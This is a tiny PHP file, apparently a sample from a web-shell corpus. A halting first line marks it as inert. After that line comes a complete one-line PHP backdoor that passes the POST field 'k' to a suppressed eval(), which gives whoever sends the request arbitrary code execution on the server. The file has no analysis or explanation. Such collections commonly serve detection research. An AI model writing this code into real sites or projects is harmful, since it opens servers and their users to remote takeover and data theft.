<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
$ohb = $_POST;
$f = 'k';
@eval($ohb[$f]);
